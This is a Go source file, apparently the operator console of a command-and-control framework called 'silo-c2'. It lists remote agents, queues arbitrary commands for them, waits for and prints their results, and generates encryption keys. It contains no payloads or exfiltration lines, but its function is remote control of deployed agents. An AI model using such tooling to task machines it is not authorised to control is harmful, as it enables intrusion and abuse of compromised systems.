package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"strings"

	"github.com/EternisAI/silo-c2/internal/envelope"
	"github.com/EternisAI/silo-c2/internal/operator"
	"github.com/EternisAI/silo-c2/internal/store"
)

// dispatch runs one operator command and returns the process exit code.
func dispatch(ctx context.Context, op *operator.Operator, args []string, stdout, stderr io.Writer) int {
	var err error
	switch args[0] {
	case "agents":
		err = runAgents(ctx, op, args[1:], stdout)
	case "send":
		err = runSend(ctx, op, args[1:], stdout)
	case "task":
		err = runTask(ctx, op, args[1:], stdout)
	case "result":
		err = runResult(ctx, op, args[1:], stdout)
	default:
		fmt.Fprintf(stderr, "unknown command %q\n\n%s", args[0], usage)
		return 2
	}

	if err != nil {
		fmt.Fprintf(stderr, "[ERROR] %v\n", err)
		return 1
	}
	return 0
}

func runAgents(ctx context.Context, op *operator.Operator, args []string, stdout io.Writer) error {
	fs := flag.NewFlagSet("agents", flag.ContinueOnError)
	if err := fs.Parse(args); err != nil {
		return err
	}

	fmt.Fprintln(stdout, "Searching for agents...")
	views, err := op.ListAgents(ctx)
	if err != nil {
		return err
	}
	printAgents(stdout, views)
	return nil
}

// parseTaskArgs accepts "<agent_id> <command...>"; the command may be given
// as several words.
func parseTaskArgs(name string, args []string) (string, string, error) {
	fs := flag.NewFlagSet(name, flag.ContinueOnError)
	if err := fs.Parse(args); err != nil {
		return "", "", err
	}
	if fs.NArg() < 2 {
		return "", "", fmt.Errorf("usage: %s <agent_id> <command>", name)
	}
	command := strings.Join(fs.Args()[1:], " ")
	if strings.TrimSpace(command) == "" {
		return "", "", errors.New("command must not be empty")
	}
	return fs.Arg(0), command, nil
}

func runSend(ctx context.Context, op *operator.Operator, args []string, stdout io.Writer) error {
	agentID, command, err := parseTaskArgs("send", args)
	if err != nil {
		return err
	}

	if err := op.SendTask(ctx, agentID, command); err != nil {
		if errors.Is(err, store.ErrAgentNotFound) {
			return fmt.Errorf("agent %s not found", agentID)
		}
		return err
	}
	fmt.Fprintf(stdout, "Task queued for agent %s\n", agentID)
	return nil
}

func runTask(ctx context.Context, op *operator.Operator, args []string, stdout io.Writer) error {
	agentID, command, err := parseTaskArgs("task", args)
	if err != nil {
		return err
	}

	fmt.Fprintf(stdout, "Sending task to agent %s and waiting for the result...\n", agentID)
	output := op.SendTaskAndAwaitResult(ctx, agentID, command)
	if isOperatorMessage(output) {
		return errors.New(strings.TrimSpace(output))
	}
	printResult(stdout, agentID, "", output)
	return nil
}

func runResult(ctx context.Context, op *operator.Operator, args []string, stdout io.Writer) error {
	fs := flag.NewFlagSet("result", flag.ContinueOnError)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return errors.New("usage: result <agent_id>")
	}
	agentID := fs.Arg(0)

	key, content, err := op.LatestResult(ctx, agentID)
	if err != nil {
		if errors.Is(err, operator.ErrNoResults) {
			return fmt.Errorf("no results found for agent %s", agentID)
		}
		return err
	}
	printResult(stdout, agentID, key, content)
	return nil
}

func runKeygen(stdout, stderr io.Writer) int {
	key, err := envelope.GenerateKey()
	if err != nil {
		fmt.Fprintf(stderr, "[ERROR] %v\n", err)
		return 1
	}
	fmt.Fprintln(stdout, key)
	return 0
}

func isOperatorMessage(output string) bool {
	switch output {
	case operator.MsgTimeout, operator.MsgSendFailed, operator.MsgDecryptFailed, operator.MsgFetchFailed:
		return true
	}
	return false
}
